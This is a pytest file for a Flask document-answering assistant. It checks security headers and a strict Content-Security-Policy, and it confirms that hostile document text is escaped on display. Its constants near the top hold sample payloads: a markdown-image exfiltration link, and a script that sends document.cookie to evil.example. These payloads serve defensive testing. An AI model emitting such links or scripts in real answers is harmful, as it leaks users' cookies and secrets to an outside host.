"""Security headers, a strict Content-Security-Policy with no inline script or style, and
hostile document text (markdown-image exfiltration, HTML and script injection) that is only
ever carried and shown as text. Real SQLite and Chroma, the fast deterministic embedder and
generator; the real browser is exercised in tests/test_browser.py."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from assistant.answering.generation import ExtractiveFakeGenerator
from assistant.embedding import HashingEmbedder
from assistant.services import Services, build_services
from assistant.settings import AnsweringSettings, RetrievalSettings, Settings
from tests.conftest import RecordingQueue, sign_in
from web import create_app
from web.security import SECURITY_HEADERS

WEB = Path(__file__).resolve().parent.parent / "web"
TEMPLATES = sorted((WEB / "templates").glob("*.html"))
SCRIPTS = sorted((WEB / "static").glob("*.js"))
STYLESHEETS = sorted((WEB / "static").glob("*.css"))

MARKDOWN_IMAGE = "![x](http://evil.example/?q=secret)"
HTML_IMAGE = "<img src=http://evil.example/x>"
SCRIPT = "<script>fetch('http://evil.example/'+document.cookie)</script>"
HOSTILE = {
    "vault.txt": f"The vault code is {MARKDOWN_IMAGE} {HTML_IMAGE} {SCRIPT}\n",
    "parking.txt": f"Parking permits come from {HTML_IMAGE} the desk {SCRIPT} in May.\n",
}


def csp_directives(response: Any) -> dict[str, list[str]]:
    policy = response.headers["Content-Security-Policy"]
    directives = {}
    for part in policy.split(";"):
        name, *values = part.split()
        directives[name] = values
    return directives


def assert_secure(response: Any, where: str) -> None:
    for name, value in SECURITY_HEADERS.items():
        assert response.headers.get(name) == value, f"{name} on {where}"


# -- headers --------------------------------------------------------------------------------
def test_every_kind_of_response_carries_the_security_headers(
    app: Flask, client: FlaskClient, fake_services: Services
) -> None:
    document = fake_services.documents.add("guide.txt", b"The canteen opens at eight.")
    fake_services.documents.ingest(document.id)
    anonymous = app.test_client()
    responses = {
        "ask page": client.get("/"),
        "documents page": client.get("/documents"),
        "admin page": client.get("/admin"),
        "audit page": client.get("/audit"),
        "source view": client.get(f"/documents/{document.id}/source"),
        "API list": client.get("/api/documents"),
        "answer stream": client.post("/api/ask", json={"question": "When does the canteen open?"}),
        "API 400": client.post("/api/ask", json={"question": ""}),
        "API 404": client.get("/api/documents/nope"),
        "page 404": client.get("/documents/nope/source"),
        "static file": client.get("/static/ask.js"),
        "login page": anonymous.get("/login"),
        "redirect to sign-in": anonymous.get("/documents"),
        "API 401": anonymous.get("/api/documents"),
        "liveness": anonymous.get("/healthz"),
        "readiness": anonymous.get("/readyz"),
        "metrics": client.get("/metrics"),
    }
    for where, response in responses.items():
        assert_secure(response, where)
    assert responses["answer stream"].mimetype == "text/event-stream"
    assert responses["page 404"].status_code == 404
    assert responses["redirect to sign-in"].status_code == 302


def test_csp_allows_only_this_server_and_no_inline_code(client: FlaskClient) -> None:
    response = client.get("/")
    directives = csp_directives(response)
    assert directives["default-src"] == ["'self'"]
    # External images are what markdown-image exfiltration needs: refused.
    assert directives["img-src"] == ["'self'"]
    assert directives["script-src"] == ["'self'"]
    assert directives["style-src"] == ["'self'"]
    assert directives["object-src"] == ["'none'"]
    assert directives["frame-ancestors"] == ["'none'"]
    assert directives["base-uri"] == ["'none'"]
    assert directives["form-action"] == ["'self'"]
    policy = response.headers["Content-Security-Policy"]
    for loose in ("unsafe-inline", "unsafe-eval", "unsafe-hashes", "*", "data:", "http", "blob:"):
        assert loose not in policy


# -- no inline script or style, nothing from elsewhere -----------------------------------------
def test_templates_have_no_inline_script_style_or_external_resources() -> None:
    assert TEMPLATES
    for template in TEMPLATES:
        html = template.read_text()
        name = template.name
        for tag in re.findall(r"<script\b[^>]*>(.*?)</script>", html, flags=re.S):
            assert not tag.strip(), f"inline script in {name}"
        for tag in re.findall(r"<script\b[^>]*>", html):
            assert "src=" in tag, f"script without src in {name}"
        assert "<style" not in html, f"inline stylesheet in {name}"
        assert not re.search(r"\sstyle\s*=", html), f"style attribute in {name}"
        assert not re.search(r"\son[a-z]+\s*=", html), f"event handler attribute in {name}"
        assert "javascript:" not in html and "data:" not in html, name
        assert not re.search(r"(https?:)?//[\w.-]+\.[a-z]{2,}", html), f"external URL in {name}"


def test_static_files_use_no_external_resources_or_html_injection() -> None:
    assert SCRIPTS and STYLESHEETS
    for script in SCRIPTS:
        code = script.read_text()
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
            assert sink not in code, f"{sink} in {script.name}"
        assert not re.search(r"https?://", code), f"external URL in {script.name}"
        assert 'setAttribute("style"' not in code and ".style." not in code, script.name
    for sheet in STYLESHEETS:
        css = sheet.read_text()
        assert "@import" not in css and "@font-face" not in css, sheet.name
        assert not re.search(r"url\(", css), f"url() in {sheet.name}"


def test_the_favicon_is_served_from_this_server(client: FlaskClient) -> None:
    html = client.get("/").get_data(as_text=True)
    [icon] = re.findall(r'<link rel="icon" href="([^"]+)"', html)
    assert icon.startswith("/static/")
    response = client.get(icon)
    assert response.status_code == 200 and response.mimetype == "image/svg+xml"


# -- hostile document text is only ever text -------------------------------------------------
@pytest.fixture
def hostile(settings: Settings) -> tuple[FlaskClient, Services, dict[str, Any]]:
    """An app whose retrieval lets every passage through, so the answers copy hostile text."""
    lenient = settings.model_copy(
        update={
            "retrieval": RetrievalSettings(min_score=-1.0),
            "answering": AnsweringSettings(answer_threshold=0.0),
        }
    )
    services = build_services(
        lenient, embedder=HashingEmbedder(), generator=ExtractiveFakeGenerator()
    )
    documents = {}
    for name, body in HOSTILE.items():
        added = services.documents.add(name, body.encode())
        documents[name] = services.documents.ingest(added.id)
    client = create_app(services=services, task_sender=RecordingQueue()).test_client()
    sign_in(client)
    return client, services, documents


def sse_events(body: str) -> list[tuple[str, Any]]:
    events = []
    for block in body.split("\n\n"):
        if not block.strip():
            continue
        lines = block.split("\n")
        assert len(lines) == 2 and lines[0].startswith("event: ") and lines[1].startswith("data: ")
        events.append((lines[0].removeprefix("event: "), json.loads(lines[1][len("data: ") :])))
    return events


def test_answers_carry_injected_markup_only_as_json_text(
    hostile: tuple[FlaskClient, Services, dict[str, Any]],
) -> None:
    client, services, documents = hostile
    for question, name in (
        ("What is the vault code?", "vault.txt"),
        ("Where do parking permits come from?", "parking.txt"),
    ):
        response = client.post("/api/ask", json={"question": question})
        assert response.status_code == 200
        # Never HTML: a browser that opened the stream would not render or sniff it.
        assert response.mimetype == "text/event-stream"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert "img-src 'self';" in response.headers["Content-Security-Policy"]
        events = dict(sse_events(response.get_data(as_text=True)))
        answer = events["answer"]
        assert not answer["declined"]
        # The hostile markup is copied verbatim into JSON strings: plain text, no markup
        # made from it, and nothing that is not a string, number, boolean or list.
        assert HTML_IMAGE in answer["answer"] and SCRIPT in answer["answer"]
        [citation] = answer["citations"]
        assert citation["document_id"] == documents[name].id
        assert citation["text"] == HOSTILE[name].strip()
        # Markdown is not turned into markup on the server either.
        body = response.get_data(as_text=True)
        assert '<img src="http://evil.example/?q=secret"' not in body and 'alt="x"' not in body
    vault = dict(sse_events(client.post("/api/ask", json={"question": "vault code?"}).text))
    assert MARKDOWN_IMAGE in vault["answer"]["answer"]
    assert services.audit_log.verify().ok


def test_source_view_and_audit_record_escape_injected_markup(
    hostile: tuple[FlaskClient, Services, dict[str, Any]],
) -> None:
    client, services, documents = hostile
    for document in documents.values():
        [chunk] = services.documents.chunks(document.id)
        response = client.get(f"/documents/{document.id}/source?chunk={chunk.id}")
        assert response.status_code == 200
        html = response.get_data(as_text=True)
        assert "<img" not in html
        # The only script tags are the page's own, from this server.
        for tag in re.findall(r"<script[^>]*>", html):
            assert re.fullmatch(r'<script src="/static/[\w.-]+\.js" defer>', tag), tag
        assert "&lt;img src=http://evil.example/x&gt;" in html
        assert "&lt;script&gt;fetch(&#39;http://evil.example/&#39;+document.cookie)" in html
        assert "evil.example" not in "".join(re.findall(r'(?:src|href)="([^"]*)"', html))
    assert MARKDOWN_IMAGE in client.get(f"/documents/{documents['vault.txt'].id}/source").text
    # The question's audit record shows the answer as text too.
    client.post("/api/ask", json={"question": "What is the vault code?"}).get_data()
    [record] = services.audit_log.search(action="question")
    page = client.get(f"/audit/{record['seq']}").get_data(as_text=True)
    assert "<img" not in page and "&lt;img src=http://evil.example/x&gt;" in page
    assert re.findall(r"<script[^>]*>", page) == []
